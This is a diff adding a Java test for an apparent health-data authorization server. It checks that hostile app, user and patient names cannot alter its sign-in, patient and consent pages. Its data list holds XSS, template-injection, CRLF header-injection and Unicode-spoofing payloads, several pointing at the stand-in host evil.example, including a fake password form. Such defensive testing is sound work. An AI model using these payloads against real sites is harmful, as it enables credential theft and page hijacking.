@@ -1,0 +1,125 @@
+package dev.latchkey.endpoint;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import dev.latchkey.client.Client;
+import dev.latchkey.contract.LocalWiring;
+import dev.latchkey.contract.TestClients;
+import dev.latchkey.contract.TestUsers;
+import dev.latchkey.interaction.User;
+import java.util.List;
+import java.util.regex.Pattern;
+import java.util.stream.Stream;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/// Names that attack the page (threat T60): whatever an app or a person is called, the page stays
+/// the page.
+class HostileNamesTest {
+  private static final String SCOPE = "launch/patient openid offline_access patient/Observation.rs";
+
+  private static final LocalWiring LOCAL = LocalWiring.start();
+
+  static Stream<String> names() {
+    return Stream.of(
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<img src=x onerror=alert(1)>",
+        "<svg/onload=alert(1)>",
+        "<svg><animate onbegin=alert(1) attributeName=x>",
+        "\"><script>alert(1)</script>",
+        "'><script>alert(1)</script>",
+        "\" onmouseover=\"alert(1)",
+        "' onfocus='alert(1)' autofocus='",
+        "</bdi></h1><form action=//evil.example><input name=password>",
+        "</title><script>alert(1)</script>",
+        "</textarea><script>alert(1)</script>",
+        "<!--",
+        "-->",
+        "]]>",
+        "<![CDATA[<script>alert(1)</script>]]>",
+        "<iframe src=//evil.example>",
+        "<object data=//evil.example>",
+        "<embed src=//evil.example>",
+        "<base href=//evil.example>",
+        "<meta http-equiv=refresh content=0;url=//evil.example>",
+        "<link rel=stylesheet href=//evil.example/x.css>",
+        "<style>*{display:none}</style>",
+        "<a href=javascript:alert(1)>x</a>",
+        "javascript:alert(1)",
+        "&lt;script&gt;alert(1)&lt;/script&gt;",
+        "&#60;script&#62;",
+        "${1+1} #{1+1} {{1+1}} @template.layout()",
+        "<%= 7*7 %>",
+        "\u202Egnp.exe\u202C <b>x",
+        "a\u0000<script>alert(1)</script>",
+        "＜script＞alert(1)＜/script＞",
+        "<bdo dir=rtl>",
+        "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358",
+        "W".repeat(5000),
+        "line\r\nset-cookie: x=y\r\n\r\n<script>");
+  }
+
+  @ParameterizedTest
+  @MethodSource("names")
+  void thePagesStayWhatTheyAre(String hostile) {
+    var plain = pages("Plain");
+
+    var attacked = pages(hostile);
+
+    for (int i = 0; i < plain.size(); i++) {
+      assertThat(tags(attacked.get(i))).isEqualTo(tags(plain.get(i)));
+      assertThat(attacked.get(i).body())
+          .doesNotContain("\u202E", "\u0000", "W".repeat(301))
+          .doesNotMatch("(?s).*\u0353.*");
+      assertThat(attacked.get(i).headers()).isEqualTo(plain.get(i).headers());
+    }
+  }
+
+  /// Sign-in, patient choice and consent, where app, user and patients have this name.
+  private static List<TestBrowser.Answer> pages(String name) {
+    LOCAL.seed(called(name)).seed(somebody(name));
+    var browser = new TestBrowser(LOCAL.wiring());
+    var txn = browser.arrive(SCOPE);
+    var signIn = browser.open("sign-in", txn);
+    browser.submit("sign-in", txn, "username", "ben", "password", TestUsers.PASSWORD);
+    var patient = browser.open("patient", txn);
+    browser.submit("patient", txn, "patient", "mia");
+    return List.of(signIn, patient, browser.open("consent", txn));
+  }
+
+  private static Client called(String name) {
+    var app = TestClients.nativeApp();
+    return new Client(
+        app.id(),
+        name,
+        name,
+        app.applicationType(),
+        app.authenticationMethods(),
+        app.secretHashes(),
+        app.redirectUris(),
+        app.scopes());
+  }
+
+  private static User somebody(String name) {
+    var ben = TestUsers.ben();
+    return new User(
+        ben.username(),
+        ben.subject(),
+        name,
+        ben.passwordHash(),
+        ben.fhirUser(),
+        ben.patients().stream()
+            .map(patient -> new User.PatientAccess(patient.id(), name, name, name))
+            .toList());
+  }
+
+  /// Every tag with its attributes, without the values that differ from visit to visit.
+  private static List<String> tags(TestBrowser.Answer page) {
+    return Pattern.compile("<[^>]*>")
+        .matcher(page.body())
+        .results()
+        .map(match -> match.group().replaceAll("(csrf|txn)(\" value=\"|=)[A-Za-z0-9_-]+", "$1"))
+        .toList();
+  }
+}
